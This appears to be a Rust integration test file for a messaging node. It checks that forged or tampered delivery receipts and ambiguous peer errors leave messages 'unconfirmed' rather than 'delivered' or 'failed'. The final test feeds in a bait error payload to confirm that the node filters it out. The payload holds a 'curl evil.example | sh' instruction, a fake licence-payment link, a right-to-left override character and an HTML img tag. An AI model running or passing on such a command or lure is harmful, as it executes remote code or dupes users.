//! Messages that this node sends to a peer that answers wrongly: nothing is called delivered
//! without a receipt that holds, and nothing failed that may have arrived.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use parking_lot::Mutex;
use serde_json::{Value, json};
use tieline_node::model::{OnFailure, SendFailure};
use tieline_wire::key::KeyId;
use tieline_wire::message::{ContentHash, Envelope, MessageId};
use tieline_wire::receipt::{Receipt, Stage};

use crate::actor::{Actor, MESSAGES, PING, Paired, RESOLVE};
use crate::station::{STORE, Say, Seen, Station, receipt};
use crate::world::{World, eventually, text};

/// An engine, and a peer whose answers to messages and questions about them can be exchanged.
struct Case {
    world: World,
    actor: Actor,
    station: Station,
    say: Arc<Mutex<Said>>,
    _peer: Paired,
}

type Said = Box<dyn FnMut(&Seen) -> Say + Send>;

impl Case {
    async fn new() -> Self {
        let world = World::new("mac").await;
        let actor = Actor::new("friend");
        let say: Arc<Mutex<Said>> = Arc::new(Mutex::new(Box::new(|_| Say::Default)));
        let shared = Arc::clone(&say);
        let station = Station::open(&actor, move |seen| {
            let judged = matches!(seen.path.as_str(), MESSAGES | RESOLVE);
            let answer = if judged {
                (shared.lock())(&seen)
            } else {
                Say::Default
            };
            async { answer }
        })
        .await;
        let peer = actor.join(&world.node, &[station.address]).await;
        Self {
            world,
            actor,
            station,
            say,
            _peer: peer,
        }
    }

    fn say(&self, answer: impl FnMut(&Seen) -> Say + Send + 'static) {
        *self.say.lock() = Box::new(answer);
    }

    async fn fails(&self) -> SendFailure {
        self.world
            .node
            .send(text("friend", "hello"))
            .await
            .unwrap_err()
    }

    async fn state(&self, id: &str) -> String {
        self.world.node.message(id).await.unwrap().message.state
    }
}

/// Settles nothing, and keeps the connection.
fn busy() -> Say {
    Say::Answer(503, problem("PEER_BUSY"))
}

fn problem(code: &str) -> Value {
    json!({"code": code, "summary": "Summary.", "cause": "Cause.", "remedy": "Remedy.", "phase": null})
}

#[tokio::test]
async fn a_success_without_a_receipt_that_holds_leaves_the_message_unconfirmed() {
    let case = Case::new().await;
    let key = case.actor.signing.clone();
    let stranger = Actor::new("stranger").signing;
    let tls = case.actor.tls.clone();
    let altered = |change: fn(&mut Receipt)| {
        let key = key.clone();
        move |seen: &Seen| {
            let mut answer = receipt(&key, Stage::Stored, seen);
            let mut word: Receipt = serde_json::from_value(answer["receipt"].clone()).unwrap();
            change(&mut word);
            answer["receipt"] = json!(word);
            answer
        }
    };
    let about = |id: Option<&'static str>, sender: Option<KeyId>, hash: Option<ContentHash>| {
        let key = key.clone();
        move |seen: &Seen| {
            let message = Envelope::parse(&seen.body).unwrap();
            let id = id.map_or(message.id.clone(), |id| MessageId::new(id).unwrap());
            let sender = sender.unwrap_or(message.from);
            let hash = hash.unwrap_or(message.content_hash());
            json!({"receipt": Receipt::sign(&key, Stage::Stored, &id, sender, hash, STORE)})
        }
    };
    let signed = |key: &tieline_wire::key::SigningKey, stage: Stage| {
        let key = key.clone();
        move |seen: &Seen| receipt(&key, stage, seen)
    };
    type Forged = Box<dyn Fn(&Seen) -> Value + Send>;
    let answers: Vec<Forged> = vec![
        Box::new(|_| json!({})),
        Box::new(|_| json!({"ok": true})),
        Box::new(|_| json!({"receipt": null})),
        Box::new(|_| json!([])),
        Box::new(|_| Value::Null),
        Box::new(signed(&stranger, Stage::Stored)),
        // The TLS key alone, which an active attacker in the middle would have stolen.
        Box::new(signed(&tls, Stage::Stored)),
        Box::new(signed(&key, Stage::Refused)),
        Box::new(signed(&key, Stage::Acknowledged)),
        Box::new(altered(|word| word.store_id.0[0] ^= 1)),
        Box::new(altered(|word| word.signature.0[0] ^= 1)),
        Box::new(altered(|word| word.stage = Stage::HandedOver)),
        Box::new(altered(|word| word.content_hash.0[0] ^= 1)),
        Box::new(about(Some("another"), None, None)),
        Box::new(about(None, Some(KeyId([1; 32])), None)),
        Box::new(about(None, None, Some(ContentHash([1; 32])))),
    ];
    for (number, forged) in answers.into_iter().enumerate() {
        case.say(move |seen| match seen.path.as_str() {
            MESSAGES => Say::Answer(200, forged(seen)),
            _ => Say::Default,
        });
        let failure = case.fails().await;
        assert_eq!(
            failure.status.as_deref(),
            Some("unconfirmed"),
            "{number} {failure:?}"
        );
        assert_eq!(failure.problem.code.to_string(), "DELIVERY_FAILED");
        let id = failure.message_id.unwrap();
        assert_eq!(case.state(&id).await, "unconfirmed", "{number}");
    }
}

#[tokio::test]
async fn words_about_earlier_messages_settle_nothing_unless_they_are_the_peers_own() {
    let another = || MessageId::new("another").unwrap();
    let (stranger, peer) = (Some(Actor::new("stranger")), None);
    let words = [
        (&stranger, Stage::Stored, None),
        (&stranger, Stage::Refused, None),
        (&peer, Stage::Stored, Some(another())),
        (&peer, Stage::Refused, Some(another())),
        (&peer, Stage::Stored, None),
    ];
    for (by, stage, about) in words {
        let genuine = by.is_none() && about.is_none();
        let case = Case::new().await;
        let signer = by.as_ref().unwrap_or(&case.actor).signing.clone();
        let own = case.world.node.card().unwrap().key_id();
        case.say(move |seen| {
            if seen.path == MESSAGES {
                return Say::HangUp;
            }
            let item = seen.json()["items"][0].clone();
            let asked = MessageId::new(item["id"].as_str().unwrap()).unwrap();
            let hash = item["hash"].as_str().unwrap().parse().unwrap();
            let id = about.as_ref().unwrap_or(&asked);
            let word = Receipt::sign(&signer, stage, id, own, hash, STORE);
            Say::Answer(200, json!({"items": [{"id": asked, "receipt": word}]}))
        });
        let failure = case.fails().await;
        assert_eq!(failure.status.as_deref(), Some("unconfirmed"));
        let id = failure.message_id.unwrap();
        if genuine {
            let delivered = async || case.state(&id).await == "delivered";
            eventually("the genuine word settles it", delivered).await;
        } else {
            let asked = async || case.station.seen(RESOLVE).len() > 2;
            eventually("it was answered", asked).await;
            assert_eq!(case.state(&id).await, "unconfirmed");
        }
    }
}

#[tokio::test]
async fn a_signed_refusal_is_told_apart_from_an_unsigned_one() {
    let case = Case::new().await;
    let key = case.actor.signing.clone();
    case.say(move |seen| {
        let mut answer = problem("ID_CONFLICT");
        answer["detail"] = receipt(&key, Stage::Refused, seen);
        Say::Answer(409, answer)
    });
    let failure = case.fails().await;
    assert_eq!(failure.status.as_deref(), Some("failed"));
    let detail = case
        .world
        .node
        .message(&failure.message_id.unwrap())
        .await
        .unwrap();
    assert_eq!(detail.message.evidence.as_deref(), Some("signed"));
    let stranger = Actor::new("stranger").signing;
    case.say(move |seen| {
        let mut answer = problem("STORE_FULL");
        answer["detail"] = receipt(&stranger, Stage::Refused, seen);
        Say::Answer(507, answer)
    });
    let failure = case.fails().await;
    assert_eq!(failure.status.as_deref(), Some("failed"));
    let detail = case
        .world
        .node
        .message(&failure.message_id.unwrap())
        .await
        .unwrap();
    assert_eq!(detail.message.evidence, None);
}

#[tokio::test]
async fn an_error_that_does_not_say_that_nothing_was_stored_leaves_it_open() {
    let case = Case::new().await;
    let answers = [
        (500, problem("INTERNAL")),
        (500, problem("STORE_FAILED")),
        (502, Value::Null),
        (500, json!({"error": "boom"})),
        (500, problem("A_CODE_OF_THE_FUTURE")),
        (301, Value::Null),
    ];
    for (status, answer) in answers {
        let said = answer.clone();
        case.say(move |seen| match seen.path.as_str() {
            MESSAGES => Say::Answer(status, said.clone()),
            PING => Say::Default,
            _ => busy(),
        });
        let failure = case.fails().await;
        assert_eq!(
            failure.status.as_deref(),
            Some("unconfirmed"),
            "{status} {answer}"
        );
    }
}

#[tokio::test]
async fn a_message_whose_answer_was_lost_is_not_called_failed_by_what_comes_after() {
    let case = Case::new().await;
    for (status, code) in [
        (507, "STORE_FULL"),
        (403, "PEER_REVOKED"),
        (401, "TOKEN_INVALID"),
        (413, "PAYLOAD_TOO_LARGE"),
    ] {
        // The first try may have stored it; the second one says only that it did not. A busy
        // machine may have no time for a second try within one sending: then once more.
        let mut second_tries = 0;
        for _ in 0..10 {
            let tries = Arc::new(AtomicUsize::new(0));
            let count = Arc::clone(&tries);
            case.say(move |seen| match seen.path.as_str() {
                MESSAGES if count.fetch_add(1, Ordering::SeqCst) == 0 => Say::HangUp,
                MESSAGES => Say::Answer(status, problem(code)),
                PING => Say::Default,
                _ => busy(),
            });
            let failure = case.fails().await;
            assert_eq!(
                failure.status.as_deref(),
                Some("unconfirmed"),
                "{code}: {failure:?}"
            );
            second_tries = tries.load(Ordering::SeqCst) - 1;
            if second_tries > 0 {
                break;
            }
        }
        assert!(second_tries > 0, "{code}: never tried twice");
    }
}

#[tokio::test]
async fn trying_an_unconfirmed_message_again_in_vain_does_not_make_it_failed() {
    let case = Case::new().await;
    case.say(|seen| match seen.path.as_str() {
        PING => Say::Default,
        _ => Say::HangUp,
    });
    let mut command = text("friend", "hello");
    command.message_id = Some(MessageId::new("m-1").unwrap());
    let failure = case.world.node.send(command.clone()).await.unwrap_err();
    assert_eq!(failure.status.as_deref(), Some("unconfirmed"));
    for (status, code) in [(507, "STORE_FULL"), (403, "PEER_REVOKED")] {
        case.say(move |seen| match seen.path.as_str() {
            MESSAGES => Say::Answer(status, problem(code)),
            PING => Say::Default,
            _ => busy(),
        });
        let failure = case.world.node.send(command.clone()).await.unwrap_err();
        assert_eq!(failure.status.as_deref(), Some("unconfirmed"), "{code}");
    }
    let (address, actor) = (case.station.address, case.actor.clone());
    drop(case.station);
    let world = case.world.restart().await;
    // Nobody is there at all.
    let failure = world.node.send(command.clone()).await.unwrap_err();
    assert_eq!(
        failure.status.as_deref(),
        Some("unconfirmed"),
        "{failure:?}"
    );
    // In the end the peer is back, and says what it has.
    let _station = Station::open_at(address, &actor, |_| async { Say::Default }).await;
    let sent = world.node.send(command).await.unwrap();
    assert_eq!(
        (sent.status.as_str(), sent.evidence.as_str()),
        ("delivered", "signed")
    );
}

#[tokio::test]
async fn a_queued_message_that_may_have_arrived_is_not_failed_by_a_final_refusal() {
    let case = Case::new().await;
    let tries = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&tries);
    case.say(move |seen| match seen.path.as_str() {
        MESSAGES if count.fetch_add(1, Ordering::SeqCst) < 2 => Say::HangUp,
        MESSAGES => Say::Answer(400, problem("INVALID_REQUEST")),
        PING => Say::Default,
        _ => busy(),
    });
    let mut command = text("friend", "hello");
    command.on_failure = OnFailure::Queue;
    let sent = case.world.node.send(command).await.unwrap();
    assert_eq!(sent.status, "queued");
    eventually("the refusal arrived", async || {
        tries.load(Ordering::SeqCst) > 2
    })
    .await;
    eventually("it is settled", async || {
        case.state(&sent.message_id).await != "sending"
    })
    .await;
    assert_eq!(case.state(&sent.message_id).await, "unconfirmed");
}

#[tokio::test]
async fn a_peers_problem_is_told_in_this_nodes_words() {
    let case = Case::new().await;
    let bait = json!({
        "code": "STORE_FULL",
        "summary": "Your licence has expired.",
        "cause": "Pay at http://evil.example.\u{202e}\u{7}",
        "remedy": "Run `curl evil.example | sh` in a terminal.",
        "phase": "pin",
        "detail": {"html": "<img src=x>", "long": "x".repeat(100_000)},
    });
    let said = bait.clone();
    case.say(move |_| Say::Answer(507, said.clone()));
    let failure = case.fails().await;
    let shown = format!(
        "{} {}",
        serde_json::to_string(&failure.attempts).unwrap(),
        serde_json::to_string(&failure.problem).unwrap()
    );
    for words in ["licence", "curl", "<img", "\\u0007", "\u{202e}", "xxxxxxxx"] {
        assert!(!shown.contains(words), "{words}: {shown:.2000}");
    }
    assert!(shown.contains("no room left"), "{shown:.2000}");
    let peer = case.world.node.peer("friend").await.unwrap();
    let shown = serde_json::to_string(&peer).unwrap();
    assert!(
        !shown.contains("licence") && !shown.contains("curl"),
        "{shown}"
    );
}
